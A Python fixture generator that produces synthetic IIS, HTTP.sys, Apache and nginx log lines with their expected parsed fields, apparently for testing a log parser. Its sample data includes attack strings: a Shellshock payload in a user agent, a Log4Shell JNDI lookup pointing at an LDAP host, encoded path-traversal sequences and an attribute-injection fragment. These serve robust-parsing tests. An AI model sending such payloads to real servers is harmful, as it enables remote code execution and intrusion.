"""Rows of web servers' logs with values as odd as servers write them, and what a reader must
make of each: a list of (line, {field: value, None for "-"}).

Sources: docs/formats/iis-w3c.md, httperr.md, iis-native.md, ncsa.md.
"""
import random

AGENTS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/88.0", "curl/7.79.1", None,
          'x" onload="1', "back\\slash", "caf\u00e9 \u65e5\u672c", "() { :;}; /bin/id"]
QUERIES = [None, "a=b&c=%2e%2e%252f", "q=1+2", "x=<%25eval%25>", "name=M\u00fcller", "u=http://h/?y#z",
           "a,b;c", "%c0%af", "j=${jndi:ldap://192.0.2.1/a}"]
STEMS = ["/", "/owa/auth/x.aspx", "/a%20b/c", "/\u00fcber/\u65e5.html", "/x;y=1/z", "/owa/auth/[a]"]
USERS = [None, "CORP\\ann", "ann@example.com", "MAIL01$"]
CLIENTS = ["192.0.2.7", "2001:db8::7", "198.51.100.250"]
METHODS = ["GET", "POST", "RPC_IN_DATA", "OPTIONS", "M-SEARCH"]

W3C = ("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
       "cs(Referer) sc-status sc-substatus sc-win32-status time-taken X-Forwarded-For").split()
HTTPERR = ("date time c-ip c-port s-ip s-port cs-version cs-method cs-uri streamid sc-status "
           "s-siteid s-reason s-queuename cs(User-Agent)").split()
NAMES = {"cs(User-Agent)": "cs-user-agent", "cs(Referer)": "cs-referer"}
MONTHS = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()


def request(rng, i):
    return {"date": "2021-03-%02d" % (1 + i // 600 % 28), "time": "%02d:%02d:%02d" % (i // 60 % 24, i % 60, i % 59),
            "method": rng.choice(METHODS), "stem": rng.choice(STEMS), "query": rng.choice(QUERIES),
            "user": rng.choice(USERS), "client": rng.choice(CLIENTS), "agent": rng.choice(AGENTS),
            "referer": rng.choice([None, "https://mail.example.com/owa/?a=b"]),
            "status": rng.choice(["200", "302", "404", "500"]), "bytes": str(rng.randrange(99999)),
            "took": str(rng.randrange(5000)), "port": rng.choice(["443", "80", "444"])}


def plus(text):
    return text and text.replace(" ", "+")


def row(columns, values, between):
    cells = [values[c] if values[c] is not None else "-" for c in columns]
    return between.join(cells), {NAMES.get(c, c): values[c] for c in columns}


def w3c(rng, n, columns=None, between=" "):
    """IIS: (header, rows)."""
    columns = columns or W3C
    rows = []
    for i in range(n):
        r = request(rng, i)
        v = {"date": r["date"], "time": r["time"], "s-ip": "10.0.0.5", "cs-method": r["method"],
             "cs-uri-stem": plus(r["stem"]), "cs-uri-query": r["query"], "s-port": r["port"],
             "cs-username": r["user"], "c-ip": r["client"], "cs(User-Agent)": plus(r["agent"]),
             "cs(Referer)": r["referer"], "sc-status": r["status"], "sc-substatus": "0",
             "sc-win32-status": "2148074254", "time-taken": r["took"],
             "X-Forwarded-For": rng.choice([None, "203.0.113.9,+10.1.1.1"])}
        rows.append(row(columns, v, between))
    return ("#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n"
            "#Date: 2021-03-01 00:00:00\r\n#Fields: " + between.join(columns) + "\r\n"), rows


def httperr(rng, n):
    """HTTP.sys's error log. What was not known of a broken request is missing."""
    rows = []
    for i in range(n):
        r = request(rng, i)
        broken = i % 5 == 0
        uri = r["stem"] + ("?" + r["query"] if r["query"] else "")
        v = {"date": r["date"], "time": r["time"], "c-ip": "::1%0" if broken else r["client"],
             "c-port": str(1024 + i), "s-ip": "10.0.0.5", "s-port": r["port"],
             "cs-version": None if broken else "HTTP/1.1", "cs-method": None if broken else r["method"],
             "cs-uri": None if broken else uri, "streamid": None if i % 2 else "1",
             "sc-status": None if broken else "400", "s-siteid": None if broken else "1",
             "s-reason": "Timer_ConnectionIdle" if broken else "BadRequest",
             "s-queuename": None if broken else "MSExchangeOWAAppPool",
             "cs(User-Agent)": plus(r["agent"])}
        rows.append(row(HTTPERR, v, " "))
    return ("#Software: Microsoft HTTP API 2.0\r\n#Version: 1.0\r\n#Date: 2021-03-01 00:00:00\r\n"
            "#Fields: " + " ".join(HTTPERR) + "\r\n"), rows


def native(rng, n):
    """IIS's own form: month first, local time."""
    names = ("c-ip cs-username date time s-sitename s-computername s-ip time-taken cs-bytes sc-bytes "
             "sc-status sc-win32-status cs-method cs-uri-stem cs-uri-query").split()
    rows = []
    for i in range(n):
        r = request(rng, i)
        day = r["date"].split("-")
        v = dict(zip(names, [r["client"], r["user"], "%d/%d/%s" % (int(day[1]), int(day[2]), day[0]),
                             r["time"], "W3SVC1", "MAIL01", "10.0.0.5", r["took"], "512", r["bytes"],
                             r["status"], "0", r["method"], r["stem"], r["query"]]))
        rows.append((", ".join(v[c] if v[c] is not None else "-" for c in names) + ",", v))
    return "", rows


def apache(text):
    """As Apache escapes: quotes and backslashes, and what is no printable ASCII in bytes."""
    out = ""
    for b in text.encode():
        c = chr(b)
        out += {'"': '\\"', "\\": "\\\\"}.get(c) or (c if 32 <= b < 127 else "\\x%02x" % b)
    return out


def nginx(text):
    return "".join(chr(b) if 32 <= b < 127 and b not in (34, 92) else "\\x%02X" % b for b in text.encode())


def ncsa(rng, n, form):
    """`form` is one of common, combined, vhost, nginx."""
    escape = nginx if form == "nginx" else apache
    rows = []
    for i in range(n):
        r = request(rng, i)
        day = r["date"].split("-")
        uri = r["stem"] + ("?" + r["query"] if r["query"] else "")
        garbage = i % 7 == 0
        text = rng.choice(["-", "\x16\x03\x01", "hello", ""]) if garbage else \
            "%s %s HTTP/1.1" % (r["method"], uri)
        line = '%s - %s [%s/%s/%s:%s +0130] "%s" %s %s' % (
            r["client"], escape(r["user"] or "-"), day[2], MONTHS[int(day[1]) - 1], day[0], r["time"],
            escape(text), r["status"], r["bytes"])
        v = {"c-ip": r["client"], "cs-username": r["user"], "sc-status": r["status"], "sc-bytes": r["bytes"]}
        if garbage:
            v["cs-request"] = None if text in ("-", "") else text
        else:
            v.update({"cs-method": r["method"], "cs-uri-stem": r["stem"], "cs-uri-query": r["query"],
                      "cs-version": "HTTP/1.1"})
        if form != "common":
            line += ' "%s" "%s"' % (escape(r["referer"] or "-"), escape(r["agent"] or "-"))
            v.update({"cs-referer": r["referer"], "cs-user-agent": r["agent"]})
        if form == "vhost":
            line = "mail.example.com:443 " + line
            v.update({"cs-host": "mail.example.com", "s-port": "443"})
        if form == "nginx":
            line += ' 0.%03d "10.1.1.1, 10.2.2.2"' % i
            v.update({"extra-1": "0.%03d" % i, "extra-2": "10.1.1.1, 10.2.2.2"})
        rows.append((line, v))
    return "", rows


def all_logs(seed, n):
    """Name -> (header, rows), the same for the same seed."""
    rng = random.Random(seed)
    shuffled = W3C[:]
    rng.shuffle(shuffled)
    logs = {"u_ex.log": w3c(rng, n), "u_ex_x.log": w3c(rng, n, shuffled), "tabs.log": w3c(rng, n, shuffled, "\t"),
            "httperr1.log": httperr(rng, n), "in.log": native(rng, n)}
    for form in ("common", "combined", "vhost", "nginx"):
        logs["%s.log" % form] = ncsa(rng, n, form)
    return logs
